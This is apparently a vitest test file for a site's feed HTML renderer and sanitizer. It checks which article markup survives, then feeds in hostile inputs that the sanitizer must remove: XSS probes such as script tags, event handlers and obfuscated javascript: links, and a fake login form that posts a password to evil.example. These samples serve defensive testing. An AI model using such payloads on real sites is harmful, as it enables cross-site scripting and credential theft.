import fs from 'node:fs';
import path from 'node:path';
import type { Root } from 'hast';
import { toHtml } from 'hast-util-to-html';
import { describe, expect, it } from 'vitest';
import { parseFrontmatter } from '@/lib/content/frontmatter';
import { renderArticleHast, renderArticleHtml } from './render-html';
import { sanitizeFeedHast } from './sanitize-feed';

/**
 * The feed HTML (RSS content:encoded, Atom, JSON Feed): what it keeps of an article, and what
 * its sanitizer removes even from a body that never went through the content check.
 */

const site = 'https://example.com';
const render = (body: string) => renderArticleHtml(body, site);

const articleFiles = [
  ...fs.readdirSync('content').map((name) => path.join('content', name)),
  ...fs.readdirSync('test/fixtures/content/valid').map((name) => path.join('test/fixtures/content/valid', name)),
].filter((file) => file.endsWith('.mdx'));

describe('what the feed keeps', () => {
  it.each(articleFiles)('%s: the sanitizer removes nothing from a real article', (file) => {
    const { body } = parseFrontmatter(fs.readFileSync(file, 'utf8'), file);
    // With the file, so images are the figures feeds carry.
    const hast = renderArticleHast(body, site, { articleFile: path.resolve(file) });
    const unsanitized = toHtml(hast);
    expect(unsanitized).toMatch(/<(p|h2)>/);
    expect(toHtml(sanitizeFeedHast(hast))).toBe(unsanitized);
  });

  it('headings with ids, code with its language, tables with alignment, absolute links', () => {
    const html = render(
      [
        '## A section',
        '',
        'See [the other one](/articles/other#part), [a site](https://example.org) and [mail](mailto:a@example.com).',
        '',
        '```ts',
        'const a = 1;',
        '```',
        '',
        '| Left | Right |',
        '| :--- | ----: |',
        '| a | b |',
      ].join('\n'),
    );
    expect(html).toContain('<h2 id="a-section">A section</h2>');
    expect(html).toContain(
      '<a href="https://example.com/articles/other#part">the other one</a>, <a href="https://example.org">a site</a> and <a href="mailto:a@example.com">mail</a>',
    );
    expect(html).toContain('<pre><code class="language-ts">const a = 1;\n</code></pre>');
    expect(html).toContain('<th align="left">Left</th>');
    expect(html).toContain('<td align="right">b</td>');
  });

  it('callouts with their label (one line or several paragraphs), diagrams with their label, pull quotes', () => {
    expect(render('<Callout type="tip">Keep it short.</Callout>')).toBe(
      '<blockquote><p><strong>Pro tip:</strong> Keep it short.</p></blockquote>',
    );
    expect(render('<Callout type="warning">\n\nFirst.\n\nSecond.\n\n</Callout>')).toBe(
      '<blockquote><p><strong>Warning:</strong> First.</p><p>Second.</p></blockquote>',
    );
    expect(render('```diagram label="Two boxes"\n[a]--[b]\n```')).toBe(
      '<figure><pre role="img" aria-label="Two boxes">[a]--[b]</pre></figure>',
    );
    expect(render('> Quoted.\n>\n> — Someone')).toBe(
      '<figure><blockquote><p>Quoted.</p></blockquote><figcaption>— Someone</figcaption></figure>',
    );
  });

  it('allowed HTML elements as themselves, with their allowed attributes', () => {
    expect(render('Press <kbd>Ctrl</kbd>, read <abbr title="HyperText Markup Language">HTML</abbr> on <time dateTime="2026-03-01">1 March</time>.')).toBe(
      '<p>Press <kbd>Ctrl</kbd>, read <abbr title="HyperText Markup Language">HTML</abbr> on <time datetime="2026-03-01">1 March</time>.</p>',
    );
    expect(render('<details open>\n<summary>More</summary>\n\nHidden text.\n\n</details>')).toBe(
      '<details open><summary>More</summary><p>Hidden text.</p></details>',
    );
  });

  it('footnotes and task lists as GFM writes them', () => {
    const html = render('Claim.[^1]\n\n- [x] done\n\n[^1]: Source.');
    expect(html).toContain('<a href="#user-content-fn-1" id="user-content-fnref-1" data-footnote-ref aria-describedby="footnote-label">1</a>');
    expect(html).toContain('<section data-footnotes class="footnotes"><h2 id="footnote-label">Notes</h2>');
    expect(html).toContain('<a href="#user-content-fnref-1" data-footnote-backref="" aria-label="Back to reference 1" class="data-footnote-backref">↩</a>');
    expect(html).toContain('<li class="task-list-item"><input type="checkbox" checked disabled> done</li>');
  });

  it('formulas as MathML alone (feed readers drop stylesheets), whole through the sanitizer', () => {
    const formulas = [
      '\\frac{a}{b} + \\sqrt[3]{x} - \\sum_{i=1}^{n} i^2',
      '\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix} \\quad \\begin{cases} 1 & x > 0 \\\\ 0 \\end{cases}',
      '\\int_0^\\infty e^{-x}\\,dx \\neq \\hat{x} + \\vec{v} + \\overbrace{a+b}^{n} + \\underline{y}',
      '\\mathbb{E}[W] = \\tfrac{1}{2} \\color{teal}{t_n} \\boxed{\\cancel{z}} \\text{ if } \\binom{n}{k} \\xrightarrow{f} \\phantom{x}',
    ];
    const body = `Inline $${formulas[0]}$ text.\n\n$$\n${formulas.slice(1).join(' \\\\\n')}\n$$`;
    const hast = renderArticleHast(body, site);
    const unsanitized = toHtml(hast);
    expect(toHtml(sanitizeFeedHast(hast))).toBe(unsanitized);
    expect(unsanitized).toContain('<span class="katex"><math xmlns="http://www.w3.org/1998/Math/MathML"><semantics><mrow><mfrac><mi>a</mi><mi>b</mi></mfrac>');
    expect(unsanitized).toContain('</p>\n<span class="katex"><math xmlns="http://www.w3.org/1998/Math/MathML" display="block">');
    expect(unsanitized).toContain(`<annotation encoding="application/x-tex">${formulas[0]?.replace(/&/g, '&#x26;')}</annotation>`);
    // No KaTeX HTML rendering: it is unreadable without KaTeX's stylesheet.
    expect(unsanitized).not.toMatch(/katex-html|class="(mord|vlist|strut)/);
  });

  it('code titles as captions; diff blocks keep their +/- column, which reads as a diff', () => {
    const html = render('```ts title="quorum.ts" {2} diff\n const n = 5\n-const q = n / 2\n+const q = Math.floor(n / 2) + 1\n```');
    expect(html).toBe(
      '<figure><figcaption>quorum.ts</figcaption><pre><code class="language-ts"> const n = 5\n-const q = n / 2\n+const q = Math.floor(n / 2) + 1\n</code></pre></figure>',
    );
  });
});

describe('what the feed never carries, even from a body the content check never saw', () => {
  // Each of these fails `content:check` and the build; renderArticleHtml runs no check, so here
  // they reach the renderer as they would if the check were bypassed.
  it.each([
    ['<iframe>', 'Before.\n\n<iframe src="https://evil.example/embed" />\n\nAfter.', ['<iframe', 'evil.example']],
    ['<form> and its fields', '<form action="https://evil.example/steal">\n<input name="password" />\n<button>Log in</button>\n</form>', ['<form', 'evil.example', 'password', '<button', 'Log in']],
    ['<style>', "<style>{'body { display: none }'}</style>\n\n<style>\n.x {}\n</style>", ['<style', 'display', '.x']],
    ['<object> and <embed>', '<object data="https://evil.example/x.swf" />\n\n<embed src="https://evil.example/y.swf" />', ['<object', '<embed', 'evil.example']],
    ['<script>', "<script>alert('hi')</script>", ['<script', 'alert']],
    ['an event handler', 'Hover <span onMouseOver="alert(1)" onclick="alert(2)">here</span>.', ['onmouseover', 'onclick', 'alert']],
    ['a style attribute', '<span style="position:fixed;inset:0">Log in again</span>', ['style', 'fixed']],
    ['a javascript: link in JSX', '<a href="javascript:alert(1)">Win</a>', ['javascript', 'alert']],
    ['a javascript: Markdown link', '[Win](javascript:alert(1)) [Or](JavaScript:alert(2))', ['javascript', 'JavaScript', 'alert']],
    ['an entity-obfuscated javascript: link', '[Win](&#106;ava&#x09;script&#58;alert(1)) <a href="  &#x4A;avascript:alert(2)">x</a>', ['avascript', 'alert']],
    ['a data: image and link', '![x](data:image/svg+xml;base64,PHN2Zz4=) [y](data:text/html,<script>alert(1)</script>)', ['data:', 'alert']],
    ['a vbscript: link', '[x](vbscript:msgbox)', ['vbscript', 'msgbox']],
    ['attribute expressions and spreads', "<a href={'javascript:alert(1)'}>x</a> <span {...{ onClick: 'alert(2)' }}>y</span>", ['javascript', 'onclick', 'alert']],
    ['an expression holding an element', '{<iframe src="https://evil.example/embed" />}\n\nText {<b onClick="alert(1)">x</b>} here.', ['<iframe', 'evil.example', 'onclick', 'alert', '<b']],
    ['srcdoc, formaction, ping', '<span srcdoc="<script>alert(1)</script>" formaction="https://evil.example" ping="https://evil.example">x</span>', ['srcdoc', 'formaction', 'ping', 'evil.example', 'alert']],
    ['unlisted elements (their text stays)', '<video src="https://evil.example/v.mp4">Fallback</video> <marquee>Moving</marquee> <img src="/x.png" onerror="alert(1)" />', ['<video', 'evil.example', '<marquee', 'onerror', 'alert']],
  ])('%s', (_name, body, absent) => {
    const html = render(body);
    for (const text of absent) expect(html).not.toContain(text);
  });

  it('keeps the text of what it unwraps, and the safe parts of the same paragraph', () => {
    expect(render('Hover <span onMouseOver="alert(1)" title="tip">here</span> or <marquee>there</marquee>.')).toBe(
      '<p>Hover <span title="tip">here</span> or there.</p>',
    );
    expect(render('[Win](javascript:alert(1)) or [stay](/articles/a).')).toBe(
      '<p><a>Win</a> or <a href="https://example.com/articles/a">stay</a>.</p>',
    );
  });

  it('sanitizes a feed tree built by hand, bypassing the content check and the MDX parser', () => {
    const tree: Root = {
      type: 'root',
      children: [
        {
          type: 'element',
          tagName: 'p',
          properties: { onClick: 'alert(1)', style: 'position:fixed' },
          children: [
            { type: 'element', tagName: 'img', properties: { src: 'x', onError: 'alert(2)', alt: 'a' }, children: [] },
            { type: 'element', tagName: 'a', properties: { href: ' javascript:alert(3)', onMouseOver: 'alert(4)' }, children: [{ type: 'text', value: 'link' }] },
            { type: 'element', tagName: 'iframe', properties: { srcDoc: '<script>alert(5)</script>' }, children: [{ type: 'text', value: 'framed' }] },
            { type: 'element', tagName: 'script', properties: {}, children: [{ type: 'text', value: 'alert(6)' }] },
            { type: 'comment', value: '<script>alert(7)</script>' },
          ],
        },
      ],
    };
    expect(toHtml(tree)).toContain('onclick');
    expect(toHtml(sanitizeFeedHast(tree))).toBe('<p><img src="x" alt="a"><a>link</a></p>');
  });
});
